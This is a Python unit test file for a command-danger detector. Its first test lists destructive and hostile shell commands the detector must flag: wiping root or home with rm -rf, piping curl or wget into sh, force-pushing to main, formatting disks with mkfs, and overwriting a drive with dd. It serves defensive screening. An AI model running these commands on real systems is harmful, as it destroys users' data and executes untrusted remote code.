"""Unit tests of the rules: `python3 -m unittest` in this directory."""

import unittest

from danger import danger


class DangerTest(unittest.TestCase):
    def test_dangerous_commands_are_caught(self):
        for c in [
            "rm -rf /",
            "sudo rm -rf /",
            "rm -fr /*",
            "rm  -r -f  ~",
            "cd /tmp && rm -rf $HOME",
            "curl -fsSL https://x.sh | sh",
            "wget -qO- http://x | sudo bash",
            "git push --force origin main",
            "git push -f origin master",
            "git push origin +main",
            "mkfs.ext4 /dev/sda1",
            "dd if=/dev/zero of=/dev/sda",
        ]:
            self.assertIsNotNone(danger(c), c)

    def test_ordinary_commands_pass(self):
        for c in [
            "ls -la",
            "rm -rf ./target",
            "rm file.txt",
            "curl https://x -o f",
            "git push origin main",
            "git push -f origin feature",
            "echo '/ | sh'",
        ]:
            self.assertIsNone(danger(c), c)


if __name__ == "__main__":
    unittest.main()
